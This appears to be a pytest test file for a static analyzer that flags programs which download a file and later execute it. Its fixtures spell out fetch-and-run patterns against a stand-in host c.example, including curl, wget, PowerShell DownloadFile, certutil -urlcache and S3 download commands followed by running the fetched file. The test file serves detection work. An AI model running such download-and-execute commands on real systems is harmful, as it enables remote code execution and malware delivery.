"""Files that programs download and that are run after: whichever way the program is told where to put them."""

from __future__ import annotations

import pytest

from tests.test_code_padding import followed, found

DOWNLOADS = [
    (["curl", "-fsSLo", "/tmp/zz", "https://c.example/x"], "/tmp/zz"),
    (["curl", "https://c.example/x", "-sLo/tmp/zz"], "/tmp/zz"),
    (["curl", "--silent", "--output=/tmp/zz", "https://c.example/x"], "/tmp/zz"),
    (["curl", "-H", "-o", "-sLO", "https://c.example/agent?v=1"], "./agent"),
    (["curl", "--output-dir", "/tmp", "-O", "https://c.example/agent"], "/tmp/agent"),
    (["wget", "-qO", "/tmp/zz", "https://c.example/x"], "/tmp/zz"),
    (["wget", "-q", "-P", "/tmp", "https://c.example/agent.sh"], "/tmp/agent.sh"),
    (["sudo", "-E", "wget", "https://c.example/agent.sh"], "agent.sh"),
    (["aria2c", "-d", "/tmp", "-o", "agent", "https://c.example/x"], "/tmp/agent"),
    (["https", "--download", "c.example/x", "-o", "/tmp/zz"], "/tmp/zz"),
    (["powershell", "-c", "iwr https://c.example/x -OutFile C:\\t\\a.exe"], "C:\\t\\a.exe"),
    (["powershell", "(New-Object Net.WebClient).DownloadFile('https://c.example/x', 'C:\\t\\a.exe')"], "C:\\t\\a.exe"),
    (["certutil", "-urlcache", "-split", "-f", "https://c.example/x", "C:\\t\\a.exe"], "C:\\t\\a.exe"),
    (["scp", "u@c.example:/x", "/tmp/zz"], "/tmp/zz"),
    (["aws", "s3", "cp", "s3://c-example/x", "/tmp/zz", "--no-sign-request"], "/tmp/zz"),
    (["huggingface-cli", "download", "c/x", "run.sh", "--local-dir", "/tmp/h"], "/tmp/h/run.sh"),
    (["sh", "-c", "true && curl -so /tmp/zz https://c.example/x"], "/tmp/zz"),
    (["sh", "-c", "curl https://c.example/x | tee /tmp/zz"], "/tmp/zz"),
]
HONEST = [
    (["curl", "-fsSLo", "/tmp/zz", "https://c.example/x"], "/tmp/other"),
    (["curl", "-H", "-o", "https://c.example/x", "/tmp/zz"], "/tmp/zz"),
    (["wget", "-qO", "-", "https://c.example/agent.sh"], "agent.sh"),
    (["wget", "-O", "/tmp/zz", "https://c.example/agent.sh"], "agent.sh"),
    (["scp", "/tmp/zz", "u@c.example:/x"], "/tmp/zz"),
    (["rsync", "/tmp/a", "/tmp/zz"], "/tmp/zz"),
    (["aws", "s3", "cp", "/tmp/zz", "s3://c-example/x"], "/tmp/zz"),
    (["echo", "curl", "-o", "/tmp/zz"], "/tmp/zz"),
]


def _facts(command: list[str], program: str) -> set[str]:
    return found(followed(f"import subprocess\nsubprocess.call({command!r})\nsubprocess.Popen([{program!r}])\n"))


@pytest.mark.parametrize(("command", "program"), DOWNLOADS)
def test_what_a_program_downloads_is_told_where_it_is_run(command: list[str], program: str) -> None:
    assert "runs-downloaded received" in _facts(command, program)


@pytest.mark.parametrize(("command", "program"), HONEST)
def test_what_a_program_does_not_download_is_not(command: list[str], program: str) -> None:
    assert "runs-downloaded received" not in _facts(command, program)


def test_it_is_found_in_the_folder_in_which_the_program_works() -> None:
    download = "subprocess.call(['curl', '-sLO', 'https://c.example/agent'], cwd={!r})\n"
    start = "subprocess.Popen(['/tmp/agent'])\n"
    assert "runs-downloaded received" in found(followed(f"import subprocess\n{download.format('/tmp')}{start}"))
    assert "runs-downloaded received" not in found(followed(f"import subprocess\n{download.format('/var/x')}{start}"))


def test_a_path_that_is_known_only_as_a_value_is_the_same_in_both_calls() -> None:
    text = "import subprocess, tempfile\nt = tempfile.mktemp()\nsubprocess.call(['wget', '-qO', t, 'https://c.example/x'])\n"
    assert "runs-downloaded received" in found(followed(text + "subprocess.call(['sh', t])\n"))
    assert "runs-downloaded received" not in found(
        followed("import sys\n" + text + "subprocess.call(['sh', sys.argv[1]])\n")
    )


def test_a_line_that_is_only_the_name_of_the_file_starts_it() -> None:
    text = "import os\nos.system('curl -fsSLo /tmp/zz https://c.example/x')\nos.system({!r})\n"
    assert "runs-downloaded received" in found(followed(text.format("/tmp/zz --now")))
    assert "runs-downloaded received" not in found(followed(text.format("cat /tmp/zz")))
